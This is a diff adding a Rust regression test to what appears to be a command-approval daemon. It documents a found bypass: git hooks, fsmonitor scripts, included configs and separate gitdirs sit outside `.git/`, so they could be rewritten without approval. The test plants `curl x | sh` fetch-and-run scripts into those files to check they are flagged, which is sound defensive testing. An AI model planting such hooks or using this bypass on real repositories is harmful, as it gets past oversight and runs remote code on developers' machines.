@@ -745,3 +745,84 @@ fn a_home_of_an_account_added_after_the_daemon_started_counts() {
 fn text_of(r: &Run) -> String {
     format!("{}{}", r.stdout, r.stderr)
 }
+
+/// Attack (found): the repository at the workspace root keeps what git
+/// runs outside `.git/`: its config sets `core.hooksPath = scripts/hooks`
+/// (a common team setup), `core.fsmonitor` to a script of the project, and
+/// includes a shared config file, which includes another; a second
+/// project's `.git` is a file pointing at `repo.git/`
+/// (`--separate-git-dir`). With intent `**`, a run rewrites the hook git
+/// runs at the next commit, the fsmonitor script the next `git status`
+/// runs, the included configs (which can set any of those), and the
+/// separate gitdir's hook and config: all promoted, while the same files
+/// under `.git/` needed approval. Fixed: the engine reads the root
+/// repository's pointer and config (as the owner, no links followed) and
+/// protects what they name inside the workspace for the run
+/// (`engine::gitdir`). An ordinary script beside them is named by nothing.
+#[test]
+fn what_the_repositorys_config_and_pointer_name_is_protected() {
+    if !common::daemon::require_root() {
+        return;
+    }
+    let d = common::daemon::Daemon::start(&[]);
+    let rewrite = |ws: &Ws, paths: &[&str]| {
+        let script: String = paths
+            .iter()
+            .map(|p| format!("printf '#!/bin/sh\\ncurl x | sh\\n' > {}\n", sq(p)))
+            .collect::<String>()
+            + "exit 0\n";
+        ws.write("plant.sh", &script);
+        common::daemon::submit_user(&d, ws, "bash plant.sh", &["--expect-write", "**"])
+    };
+    let assert_protected = |r: &Run, protected: &[&str], ordinary: &str| {
+        assert_ran(Who::User, r);
+        assert_eq!(r.decision(), "needs_approval", "{:#?}", r.reasons());
+        for p in protected {
+            assert!(
+                named_by(r, "protected.path", p),
+                "{p} not protected: {:#?}",
+                r.reasons()
+            );
+        }
+        assert!(
+            !r.reasons()
+                .iter()
+                .any(|x| x.contains(&format!(" {ordinary},"))),
+            "{ordinary}: {:#?}",
+            r.reasons()
+        );
+    };
+
+    let ws = common::daemon::user_workspace();
+    ws.write(
+        ".git/config",
+        "[core]\n\trepositoryformatversion = 0\n\thooksPath = scripts/hooks\n\
+         \tfsmonitor = tools/fsmon.sh\n[include]\n\tpath = ../team.gitconfig\n",
+    );
+    ws.write("team.gitconfig", "[include]\n\tpath = nested.gitconfig\n");
+    ws.write("nested.gitconfig", "[user]\n\tname = x\n");
+    for s in ["scripts/hooks/pre-commit", "tools/fsmon.sh", "src/app.sh"] {
+        write_script(&ws, s, "#!/bin/sh\nexit 0\n");
+    }
+    let protected = [
+        "scripts/hooks/pre-commit",
+        "tools/fsmon.sh",
+        "team.gitconfig",
+        "nested.gitconfig",
+    ];
+    let mut all = protected.to_vec();
+    all.push("src/app.sh");
+    let r = rewrite(&ws, &all);
+    assert_protected(&r, &protected, "src/app.sh");
+
+    let ws = Ws::new(Who::User);
+    ws.write(".git", "gitdir: repo.git\n");
+    ws.write("repo.git/config", "[core]\n\tbare = false\n");
+    write_script(&ws, "repo.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
+    write_script(&ws, "src/app.sh", "#!/bin/sh\nexit 0\n");
+    let protected = ["repo.git/hooks/pre-commit", "repo.git/config"];
+    let mut all = protected.to_vec();
+    all.push("src/app.sh");
+    let r = rewrite(&ws, &all);
+    assert_protected(&r, &protected, "src/app.sh");
+}
